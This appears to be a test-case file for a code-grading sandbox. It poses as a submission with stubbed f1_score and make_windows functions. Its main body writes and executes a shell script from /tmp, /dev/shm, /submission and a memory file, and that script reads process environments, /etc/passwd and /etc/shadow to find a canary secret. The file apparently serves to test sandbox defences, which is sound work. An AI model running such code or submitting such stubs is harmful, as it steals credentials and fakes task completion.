# class: secrets
# attacks: executes a program from a memory file and from every writable folder
# expect: {"f1": 0, "windows": 0}
import numpy as np


def f1_score(y_true, y_pred):
    return 0.5


def make_windows(df, window, horizon, target):
    return np.zeros((1, window, df.shape[1])), np.zeros((1, horizon))


import os
import subprocess

SCRIPT = b"#!/bin/sh\ncat /proc/*/environ /etc/passwd /etc/shadow 2>/dev/null | grep -a CANARY\n"
for folder in ("/tmp", "/dev/shm", "/submission"):
    try:
        path = f"{folder}/run"
        with open(path, "wb") as stream:
            stream.write(SCRIPT)
        os.chmod(path, 0o755)
        print(subprocess.run([path], capture_output=True, text=True, timeout=1).stdout)
    except (OSError, subprocess.TimeoutExpired):
        pass
try:
    fd = os.memfd_create("program")
    os.write(fd, SCRIPT)
    print(subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd], capture_output=True, text=True, timeout=1).stdout)
except (OSError, AttributeError):
    pass
